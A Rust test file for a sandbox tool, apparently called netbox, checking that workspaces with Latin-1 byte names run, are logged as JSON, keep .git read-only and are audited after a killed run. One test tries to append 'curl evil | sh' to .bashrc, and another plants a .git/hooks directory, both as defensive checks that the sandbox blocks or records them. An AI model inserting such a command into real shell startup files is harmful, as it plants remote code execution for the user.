//! Paths that are not UTF-8 (a directory named in Latin-1, as an old archive unpacks it):
//! a Unix path is bytes, and netbox writes its paths as JSON (the event log, the record of
//! an audit owed, the probe's writes passed from pid 1). Such a workspace runs, is logged
//! whole, and a killed run's audit is done by the next, as for any other name.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::PathBuf;

use serde_json::Value;

use crate::support::{git, stderr, stdout, wait_for_path, Run, TestDir};

/// A run whose workspace is `dir/café` spelled in Latin-1 (`caf\xe9`, not UTF-8), a git
/// repository.
fn latin1_workspace(dir: &TestDir) -> Run {
    let mut run = Run::new(dir).arg("--quiet");
    run.workspace = dir.join("").join(OsStr::from_bytes(b"caf\xe9"));
    std::fs::create_dir_all(&run.workspace).unwrap();
    assert!(run.workspace.to_str().is_none());
    git(&run.workspace, &["init", "-q"]);
    run
}

/// The log's lines, each of which must be a whole record.
fn whole_records(run: &Run) -> Vec<Value> {
    let text = std::fs::read(&run.log).unwrap();
    let text = String::from_utf8(text).expect("the event log is UTF-8");
    text.lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{e}: {line:?}")))
        .collect()
}

/// The workspace as the log writes it: each byte that is not UTF-8 as U+FFFD.
fn as_logged(path: &std::path::Path) -> String {
    path.to_string_lossy().into_owned()
}

#[test]
fn a_workspace_named_in_bytes_that_are_not_utf8_runs_and_is_logged() {
    let dir = TestDir::new("byte-names-run");
    let run = latin1_workspace(&dir);
    // Control: the workspace is writable; the pin on .git holds by that name too.
    let out = run
        .sh("echo hi > made && { echo x > .git/config 2>/dev/null && echo wrote || echo kept; }");
    assert_eq!(stdout(&out), "kept\n", "{}", stderr(&out));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(run.workspace.join("made")).unwrap(),
        "hi\n"
    );
    let events = whole_records(&run);
    let start = events
        .iter()
        .find(|e| e["type"] == "session_start")
        .expect("a session_start record");
    assert_eq!(start["workspace"], as_logged(&run.workspace).as_str());
    assert_eq!(start["cwd"], as_logged(&run.workspace).as_str());
    assert!(
        start["protected"]
            .as_array()
            .unwrap()
            .contains(&Value::from(as_logged(&run.workspace.join(".git")))),
        "{start}"
    );
    let probe = events.iter().find(|e| e["type"] == "probe").unwrap();
    assert_eq!(probe["passed"], true, "{probe}");
    let denied: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "write_denied")
        .collect();
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(
        denied[0]["path"],
        as_logged(&run.workspace.join(".git/config")).as_str()
    );
    assert_eq!(events.last().unwrap()["type"], "session_end");
    assert_eq!(events.last().unwrap()["status"], 0);
}

#[test]
fn a_killed_run_in_a_workspace_named_in_bytes_is_checked_by_the_next() {
    let dir = TestDir::new("byte-names-killed");
    let run = latin1_workspace(&dir);
    let mut killed = run
        .command("mkdir -p planted/.git/hooks && touch started && sleep 30")
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_path(&run.workspace.join("started"), "CMD never started");
    let first_session = whole_records(&run)[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    killed.kill().unwrap();
    let said = stderr(&killed.wait_with_output().unwrap());
    assert!(!said.contains("cannot keep a record"), "{said}");
    // The next run, in a workspace of its own beside it, checks what the killed one left.
    let mut next = Run::new(&dir).arg("--quiet");
    next.log = run.log.clone();
    let out = next.sh("true");
    assert!(out.status.success(), "{}", stderr(&out));
    let planted: PathBuf = run.workspace.join("planted/.git");
    let found: Vec<Value> = whole_records(&run)
        .into_iter()
        .filter(|e| e["type"] == "git_metadata_created")
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["audited_session"], first_session.as_str());
    assert_eq!(found[0]["path"], as_logged(&planted).as_str());
    // Checked once: the record is gone.
    let out = next.sh("true");
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
}

#[test]
fn a_home_entry_named_in_bytes_that_are_not_utf8_is_split_like_any_other() {
    TestDir::remove_leftovers_outside_tmp("byte-names-home");
    // Outside /tmp: a home under the host's /tmp would be replaced by the private one.
    let dir = TestDir::outside_tmp("byte-names-home");
    // The workspace is home: --allow-home-write splits it.
    let home = dir.join("ws");
    let data = home.join(OsStr::from_bytes(b"caf\xe9"));
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", home.display().to_string());
    // The data entry takes a write like any other; the control: .bashrc stays read-only.
    let script = format!(
        "echo x > {}/notes && echo ok; echo 'curl evil | sh' >> {}/.bashrc 2>/dev/null || echo kept",
        shell_quote(&data),
        shell_quote(&home)
    );
    let out = run.sh(&script);
    assert_eq!(stdout(&out), "ok\nkept\n", "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(data.join("notes")).unwrap(), "x\n");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    let start = whole_records(&run)
        .into_iter()
        .find(|e| e["type"] == "session_start")
        .unwrap();
    assert!(
        start["write_roots"]
            .as_array()
            .unwrap()
            .contains(&Value::from(as_logged(&data))),
        "{start}"
    );
}

/// `path` for bash, byte for byte: `$'...'` with every byte escaped.
fn shell_quote(path: &std::path::Path) -> String {
    let escaped: String = path
        .as_os_str()
        .as_bytes()
        .iter()
        .map(|b| format!("\\x{b:02x}"))
        .collect();
    format!("$'{escaped}'")
}
